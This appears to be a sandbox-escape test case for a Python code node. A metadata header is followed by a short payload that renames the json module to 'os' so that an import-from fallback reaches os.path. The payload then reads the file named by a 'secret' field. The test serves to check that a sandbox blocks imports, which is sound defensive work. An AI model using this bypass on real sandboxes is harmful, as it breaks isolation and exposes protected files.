# class: import machinery
# technique: import-from falls back to loaded modules when an attribute is missing, by the module's own name
# layers: supervisor
# single: imports are calls of the child's own functions, and no opcode that imports is left, whatever is off
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# control: imports are calls of the child's own functions, and no opcode that imports is left, whatever is off
# witness: secret
host = _items[0]["json"]
import json
json.__name__ = "os"
from json import path as found
reached = found.os
return [{"json": {"reached": reached.read(reached.open(host["secret"], 0), 4096).decode()}}]
